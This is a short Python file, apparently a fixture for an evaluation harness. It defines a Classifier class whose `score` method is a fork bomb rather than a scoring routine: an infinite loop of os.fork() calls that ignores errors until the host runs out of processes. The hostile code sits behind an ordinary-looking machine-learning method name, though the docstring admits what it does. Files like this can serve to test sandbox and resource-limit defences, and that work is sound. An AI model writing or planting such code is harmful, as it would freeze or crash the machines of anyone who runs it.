"""`score` forks until nothing is left to fork."""

import os


class Classifier:
    def score(self, X, y):
        while True:
            try:
                os.fork()
            except OSError:
                pass
